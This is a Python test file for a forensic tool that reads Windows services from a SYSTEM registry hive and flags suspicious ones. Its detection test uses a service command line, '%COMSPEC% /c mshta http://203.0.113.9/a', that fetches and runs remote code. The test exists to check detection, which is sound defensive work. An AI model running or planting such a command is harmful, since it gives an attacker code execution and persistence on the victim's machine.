"""Services from a hive SYSTEM."""

import io

import pytest

from exhume.model import File, Record
from exhume.readers.hive import Hives
from hive_bytes import hive
from pretend_server import assessed

PATH = "C/Windows/System32/config/SYSTEM"
STORE = {
    "ImagePath": '"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\Microsoft.Exchange.Store.Service.exe"',
    "Start": 2,
}


def system(services, current=1):
    return hive(
        {"Select": {"Current": current}, f"ControlSet{current:03}": {"Services": services}}, "emRoot\\System32\\Config\\SYSTEM"
    )


def told(data):
    return [r for r in Hives().read(io.BytesIO(data), File("e", PATH), None) if isinstance(r, Record)]


def test_a_service_is_a_record_with_the_library_of_a_shared_process():
    shared = {
        "ImagePath": "svchost.exe -k x",
        "ObjectName": "LocalSystem",
        "Parameters": {"ServiceDll": "C:\\ProgramData\\x.dll"},
    }
    one, two = told(system({"MSExchangeIS": STORE, "Helper": shared, "Driverless": {"Start": 3}}, current=2))
    assert one.fields == {"name": "MSExchangeIS", **STORE, "written": "2021-03-09T21:15:00Z"}
    assert (two.text("ServiceDll"), two.text("ObjectName")) == ("C:\\ProgramData\\x.dll", "LocalSystem")
    assert two.source.at == "key ControlSet002\\Services\\Helper"


def test_a_hive_without_a_current_set_has_no_services():
    assert told(hive({"Microsoft": {"Windows": {}}})) == []


@pytest.mark.parametrize(
    ("image", "found"),
    [("C:\\Users\\Public\\u.exe", True), ("%COMSPEC% /c mshta http://203.0.113.9/a", True), (STORE["ImagePath"], False)],
)
def test_what_a_service_runs_is_judged(image, found):
    result = assessed({PATH: system({"Updater": {"ImagePath": image, "Start": 2}})})
    assert [f.source.at for f in result.findings] == (["key ControlSet001\\Services\\Updater"] if found else [])
